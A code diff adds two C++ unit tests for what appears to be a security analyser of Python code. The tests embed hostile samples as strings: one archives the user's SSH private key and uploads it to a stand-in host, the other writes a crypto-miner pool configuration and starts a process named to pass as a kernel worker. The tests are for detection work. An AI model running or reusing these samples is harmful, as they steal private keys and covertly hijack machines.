@@ -482,5 +482,65 @@ for t in [Target("build output", [Path("build") / "app.whl"]),
                   "both targets are build output", L);
 }
 
+// A file named partly at run time ("<host>-profile.tgz") in a directory
+// TemporaryDirectory made is one file: the archive written there is what is
+// read back and uploaded (prog194d). Twin: the archive holds the shop's
+// settings only (MEDIUM for the host's name its file name sends).
+TEST(HundredAndSeventiethRoundClasses, FilesInATemporaryDirectoryAreTracked) {
+  const std::string program = R"py(
+import pathlib, socket, tarfile, tempfile, urllib.request
+
+with tempfile.TemporaryDirectory(prefix="bk-") as staging:
+    archive = pathlib.Path(staging) / f"{socket.gethostname()}-profile.tgz"
+    with tarfile.open(archive, "w:gz") as tar:
+        tar.add(pathlib.Path.home() / ".ssh" / "id_ed25519", arcname="key")
+    req = urllib.request.Request("https://backup.example.net/api/upload", data=archive.read_bytes(), method="POST")
+    urllib.request.urlopen(req, timeout=30)
+)py";
+  check_with_twin({"a key archived in a temporary directory, then uploaded", B, program.c_str(), "EXFILTRATION"},
+                  "pathlib.Path.home() / \".ssh\" / \"id_ed25519\"", "pathlib.Path(\"shop.ini\")",
+                  "the shop's settings archived the same way", M);
+}
+
+// json.dumps writes a dict's values under keys computed at run time (a
+// comprehension renaming keys), so a miner's pool URL in the configuration
+// it writes is seen; Popen's executable= is the program that runs, argv[0]
+// only its displayed name (prog195e). Twin: the configuration names a
+// metrics endpoint.
+TEST(HundredAndSeventiethRoundClasses, ComputedKeysAndExecutables) {
+  const std::string program = R"py(
+import json, subprocess
+from dataclasses import dataclass, asdict
+
+@dataclass
+class PoolCfg:
+    url: str
+    user: str
+    pass_: str = "x"
+
+@dataclass
+class WorkerCfg:
+    pools: list
+
+    def to_json(self):
+        raw = asdict(self)
+        raw["pools"] = [{("pass" if k == "pass_" else k): v for k, v in p.items()} for p in raw["pools"]]
+        return json.dumps(raw, indent=2)
+
+cfg = WorkerCfg(pools=[PoolCfg(url="stratum+tcp://pool.example.net:3333", user="48wallet")])
+with open("worker.json", "w") as fh:
+    fh.write(cfg.to_json())
+subprocess.Popen(["[kworker/u8:3]", "--config", "worker.json"], executable="/opt/pos/posd")
+)py";
+  check_with_twin({"a pool URL in a configuration written with computed keys", B, program.c_str(), "CRYPTO-MINER"},
+                  "stratum+tcp://pool.example.net:3333", "https://metrics.example.net/in",
+                  "a metrics endpoint in the same configuration", M);
+  const Assessment twin = py(replaced(program, "stratum+tcp://pool.example.net:3333", "https://metrics.example.net"));
+  bool names_the_executable = false;
+  for (const auto& f : twin.findings)
+    if (f.rule_id == "RUNS-PROCESS" && f.message.find("/opt/pos/posd") != std::string::npos) names_the_executable = true;
+  EXPECT_TRUE(names_the_executable) << describe(twin);
+}
+
 }  // namespace
 }  // namespace mai::assess::test
